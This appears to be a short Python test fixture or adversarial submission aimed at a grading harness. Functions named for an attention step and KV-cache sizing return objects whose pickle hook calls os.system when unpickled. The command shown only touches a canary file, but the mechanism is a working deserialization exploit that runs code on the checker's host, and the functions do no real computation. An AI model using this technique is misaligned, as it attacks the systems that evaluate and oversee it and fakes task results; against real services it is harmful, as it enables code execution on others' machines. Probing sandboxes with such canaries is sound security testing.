# Pickle: returns objects (and pickled bytes) that would run a command on the host if the checker unpickled them.
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/__CANARY__-pickle",))


def attend_step(x_t, cache, p):
    return Payload(), {"k": Payload(), "v": pickle.dumps(Payload())}


def kv_cache_bytes(n_layers, n_kv_heads, head_dim, n_tokens, bytes_per_value):
    return pickle.dumps(Payload())
